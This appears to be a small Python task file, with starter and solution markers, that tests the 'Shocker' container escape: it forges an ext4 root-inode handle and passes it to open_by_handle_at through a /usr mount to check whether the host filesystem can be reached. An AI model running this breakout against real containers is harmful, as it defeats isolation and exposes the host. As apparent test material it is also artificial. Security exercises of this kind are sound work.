"""open_by_handle_at on the ext4 root's handle (inode 2, generation 0) through the /usr bind: the Shocker escape."""

# says: where to start
import ctypes
import errno
import os

libc = ctypes.CDLL(None, use_errno=True)


class Handle(ctypes.Structure):
    _fields_ = [
        ("size", ctypes.c_uint),
        ("type", ctypes.c_int),
        ("inode", ctypes.c_uint32),
        ("generation", ctypes.c_uint32),
    ]


mount_fd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
result = libc.open_by_handle_at(mount_fd, ctypes.byref(Handle(8, 1, 2, 0)), os.O_RDONLY | os.O_DIRECTORY)
err = ctypes.get_errno()
print("escape:", "WORKED" if result >= 0 else errno.errorcode.get(err, err))
if result >= 0:
    # @solution
    pass
else:
    # @starter
    pass
